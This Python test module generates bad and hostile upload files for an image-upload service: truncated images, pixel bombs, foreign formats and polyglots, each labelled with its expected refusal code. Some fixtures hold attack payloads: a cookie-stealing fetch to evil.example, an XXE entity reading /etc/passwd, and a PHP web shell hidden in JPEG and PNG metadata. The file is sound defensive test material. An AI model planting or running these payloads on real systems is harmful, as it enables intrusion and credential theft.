"""Files that are no good pictures, or more than one: generated, each named by the number of its kind of bad input."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

from PIL import Image

from tests.services.images.bombs import huge_in_memory
from tests.services.images.pictures import animated, draw, encode, picture_bytes, png_chunk

SIGNATURE = b"\x89PNG\r\n\x1a\n"


def png_of(width: int, height: int, *, depth: int = 1, colour: int = 0) -> bytes:
    """Return a whole grey PNG of one value; its file is a thousandth of its pixels."""
    line = bytes(1 + (width * depth + 7) // 8)
    packer = zlib.compressobj(9)
    body = b"".join([*(packer.compress(line) for _ in range(height)), packer.flush()])
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return SIGNATURE + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", body) + png_chunk(b"IEND", b"")


def _hole(data: bytes) -> bytes:
    """Return a JPEG whose second half is missing, but for its end."""
    return data[: len(data) // 2] + b"\xff\xd9"


def _with_bad_crc(data: bytes) -> bytes:
    spoilt = bytearray(data)
    spoilt[len(data) // 2] ^= 1
    return bytes(spoilt)


def _garbage_in_idat() -> bytes:
    header = png_chunk(b"IHDR", struct.pack(">IIBBBBB", 96, 96, 8, 2, 0, 0, 0))
    return SIGNATURE + header + png_chunk(b"IDAT", b"\x78\x9c" + b"garbage" * 40) + png_chunk(b"IEND", b"")


def _too_few_lines() -> bytes:
    header = png_chunk(b"IHDR", struct.pack(">IIBBBBB", 96, 96, 8, 2, 0, 0, 0))
    half = png_chunk(b"IDAT", zlib.compress(bytes(48 * 289)))
    return SIGNATURE + header + half + png_chunk(b"IEND", b"")


def _gif(frames: int) -> bytes:
    first, *others = [Image.new("P", (64, 64), number % 250) for number in range(frames)]
    return encode(first, "GIF", save_all=True, append_images=others, duration=20, optimize=False)


def _zip() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("evil.js", "alert(1)")
    return file.getvalue()


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" width="99" height="99">{}</svg>'
XXE = '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
FOREIGN_HEADS = {
    "PDF": b"%PDF-1.7\n", "EPS": b"%!PS-Adobe-3.0 EPSF-3.0\n", "PSD": b"8BPS\0\1", "TIFF": b"II*\0\x08\0\0\0",
    "BigTIFF": b"MM\0+\0\x08\0\0", "ICO": b"\0\0\1\0\1\0\x40\x40", "HDF5": b"\x89HDF\r\n\x1a\n",
    "WMF": b"\xd7\xcd\xc6\x9a", "XCF": b"gimp xcf v011\0", "BMP": b"BM\x36\x30\0\0",
    "JPEG 2000": b"\0\0\0\x0cjP  \r\n\x87\n",
    "HEIC": b"\0\0\0\x18ftypheic", "AVIF": b"\0\0\0\x1cftypavif", "JPEG XL": b"\xff\x0a\xfa\x7f",
    "RIFF that is no WebP": b"RIFF\x24\0\0\0WAVEfmt ",
}  # fmt: skip
JPEG, PNG, WEBP = picture_bytes("JPEG"), picture_bytes("PNG"), picture_bytes("WEBP")


def refused() -> Iterator[tuple[str, bytes, str]]:
    """Yield (number and name, bytes, the code of the refusal)."""
    yield "BI-53 no bytes", b"", "upload_empty"
    yield "BI-54 one byte", b"\x89", "upload_not_a_picture"
    yield "BI-54 one letter", b"G", "upload_not_a_picture"
    yield "BI-55 PNG header only", PNG[:33], "upload_damaged"
    yield "BI-55 JPEG header only", JPEG[: JPEG.index(b"\xff\xda")], "upload_damaged"
    yield "BI-55 WebP header only", WEBP[:30], "upload_damaged"
    for name in ("PNG", "JPEG", "WEBP"):
        data = picture_bytes(name, (256, 200))
        for share in (0.2, 0.5, 0.95):
            yield f"BI-56 {name} cut at {share}", data[: int(len(data) * share)], "upload_damaged"
    yield "BI-56 JPEG with a hole and an end", _hole(picture_bytes("JPEG", (256, 200))), "upload_damaged"
    yield "BI-56 PNG with too few lines", _too_few_lines(), "upload_damaged"
    yield "BI-60 PNG of 9000 x 9000", png_of(9000, 9000), "upload_too_many_pixels"
    yield "BI-61 PNG of 13000 x 13000", png_of(13_000, 13_000), "upload_too_many_pixels"
    yield "BI-62 PNG of 20000 x 20000", png_of(20_000, 20_000), "upload_too_many_pixels"
    yield "BI-60 more than 40 million pixels", png_of(8000, 5001), "upload_too_many_pixels"
    yield "BI-60 63 px wide", png_of(63, 300), "upload_too_small"
    yield "BI-60 a strip of 8192 x 100", png_of(8192, 100), "upload_too_small"
    yield "BI-65 GIF of 300 frames", _gif(300), "upload_not_a_picture"
    yield "BI-66 animated WebP", animated("WEBP"), "upload_moves"
    yield "BI-66 APNG", animated("PNG"), "upload_moves"
    yield "BI-67 SVG", SVG.format("<rect/>").encode(), "upload_not_a_picture"
    yield (
        "BI-67 SVG with a script",
        SVG.format("<script>fetch('/')</script>").encode(),
        "upload_not_a_picture",
    )
    yield "BI-67 SVG with an entity", (XXE + SVG.format("&e;")).encode(), "upload_not_a_picture"
    linked = SVG.format('<image x:href="http://127.0.0.1/"/>')
    yield "BI-67 SVG with a link", linked.encode(), "upload_not_a_picture"
    for name, head in FOREIGN_HEADS.items():
        yield f"BI-68 {name}", head + bytes(400), "upload_not_a_picture"
    yield "BI-69 HTML", b"<!doctype html><script>alert(1)</script>", "upload_not_a_picture"
    yield "BI-69 JavaScript", b"fetch('https://evil.example/' + document.cookie)", "upload_not_a_picture"
    yield "BI-70 GIF that is JavaScript", b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)", "upload_not_a_picture"
    yield "BI-70 ZIP before a JPEG", _zip() + JPEG, "upload_not_a_picture"
    yield "BI-76 PNG with a wrong check sum", _with_bad_crc(PNG), "upload_damaged"
    yield "BI-76 PNG with garbage for pixels", _garbage_in_idat(), "upload_damaged"
    yield "BI-76 JPEG that takes 240 MB", huge_in_memory(3), "upload_too_heavy"


def polyglots() -> dict[str, bytes]:
    """Return whole pictures with something else in the same file: BI-70."""
    comment = b"\xff\xfe" + struct.pack(">H", 2 + 30) + b"<?php system($_GET['c']); ?>  "
    return {
        "JPEG and ZIP": JPEG + _zip(),
        "JPEG with PHP in a comment": JPEG[:2] + comment + JPEG[2:],
        "PNG and PHP": PNG + b"<?php system($_GET['c']); ?>",
        "PNG with PHP in a text": PNG[:33] + png_chunk(b"tEXt", b"Comment\0<?php system('x'); ?>") + PNG[33:],
        "WebP and HTML": WEBP + b"<script>alert(1)</script>",
    }


def colours() -> dict[str, tuple[bytes, bool]]:
    """Return pictures in every colour model, and whether something shines through them: BI-75."""
    red = Image.new("RGB", (96, 80), (200, 30, 40))
    half = red.copy()
    half.putalpha(128)
    palette = red.quantize(16)
    sixteen = Image.new("I;16", (96, 80), 40_000)
    return {
        "grey": (encode(draw(mode="L"), "PNG"), False),
        "grey JPEG": (encode(draw(mode="L"), "JPEG"), False),
        "one bit": (encode(Image.new("1", (96, 80), 1), "PNG"), False),
        "16 bit": (encode(sixteen, "PNG"), False),
        "palette": (encode(palette, "PNG"), False),
        "palette with a transparent colour": (encode(palette, "PNG", transparency=0), True),
        "grey and alpha": (encode(half.convert("LA"), "PNG"), True),
        "colour and alpha": (encode(half, "PNG"), True),
        "opaque alpha": (encode(red.convert("RGBA"), "PNG"), False),
        "WebP with alpha": (encode(half, "WEBP", lossless=True), True),
        "CMYK": (encode(red.convert("CMYK"), "JPEG"), False),
        "YCbCr": (encode(red, "JPEG", subsampling=2), False),
    }
